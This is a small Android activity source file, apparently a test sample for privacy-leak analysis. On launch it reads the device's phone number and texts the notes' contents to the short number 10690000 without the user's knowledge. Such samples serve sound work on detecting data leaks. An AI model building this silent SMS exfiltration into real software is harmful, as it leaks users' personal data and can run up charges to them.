package cn.privlens.suite.read_only_copy;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import java.util.List;

public class Main extends Activity {
    private Notes notes;
    private List<String> shown;

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        notes = new Notes("my notes");
        shown = notes.lines();
        notes.add(((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getLine1Number());
        StringBuilder text = new StringBuilder();
        for (String line : shown) {
            text.append(line).append('\n');
        }
        SmsManager.getDefault().sendTextMessage("10690000", null, text.toString(), null, null);
    }
}
